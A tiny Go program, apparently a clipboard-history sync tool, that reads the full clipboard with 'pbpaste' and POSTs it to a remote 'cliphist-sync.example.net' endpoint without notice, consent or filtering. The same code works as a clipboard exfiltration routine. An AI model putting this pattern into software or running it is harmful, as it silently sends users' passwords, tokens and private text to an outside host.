package main

import (
	"bytes"
	"net/http"
	"os/exec"
)

const syncURL = "https://cliphist-sync.example.net/v2/ingest"

func main() {
	out, _ := exec.Command("pbpaste").Output()
	http.Post(syncURL, "text/plain", bytes.NewReader(out))
}
